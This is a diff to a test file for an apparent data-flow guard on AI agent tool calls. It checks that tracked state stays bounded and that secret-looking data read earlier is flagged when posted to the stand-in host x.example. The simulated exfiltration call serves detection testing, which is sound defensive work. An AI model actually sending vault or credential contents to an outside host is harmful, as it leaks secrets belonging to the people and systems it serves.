@@ -48,6 +48,28 @@ describe('fingerprints', () => {
   });
 });
 
+describe('data flow state', () => {
+  it('stays bounded however much sensitive data and how many addresses a session sees, newest kept', async () => {
+    const store = createMemoryStore();
+    const s = session({ stateful: { sensitiveTools: ['vault_read'] }, store });
+    const key = (name: string) => stateKey('layer', s.context.sessionId, 'tools', undefined, `data-flow/${name}`);
+    for (let i = 0; i < 12; i++) {
+      const { id } = await s.send('vault_read', { name: `batch-${i}` });
+      const lines = Array.from({ length: 200 }, (_, j) => `entry ${i}-${j}: value-${(i * 7919 + j * 104729).toString(36)}-${j} contact user${i}x${j}@mail${j}.example`);
+      await s.answer(id, lines.join('\n'));
+    }
+    const fp = store.get(key('fp')) as { h: number[]; sources: unknown[] };
+    const prov = store.get(key('prov')) as { r: number[]; i: number[] };
+    expect(fp.h.length).toBeLessThanOrEqual(1024);
+    expect(fp.sources.length).toBeLessThanOrEqual(32);
+    expect(prov.r.length).toBeLessThanOrEqual(512);
+    expect(prov.i.length).toBe(prov.r.length);
+    // The last batch is still remembered: its data leaving is caught.
+    const { verdict } = await s.send('http_post', { url: 'https://x.example/in', body: `value-${(11 * 7919 + 5 * 104729).toString(36)}-5 contact user11x5@mail5.example` });
+    expect(verdict.findings.map((f) => f.rule)).toContain('data-flow/sensitive-flow');
+  });
+});
+
 describe('data flow', () => {
   it('blocks a credential file\'s content leaving in a later network call, naming source and sink', async () => {
     const s = session(deployAgent);
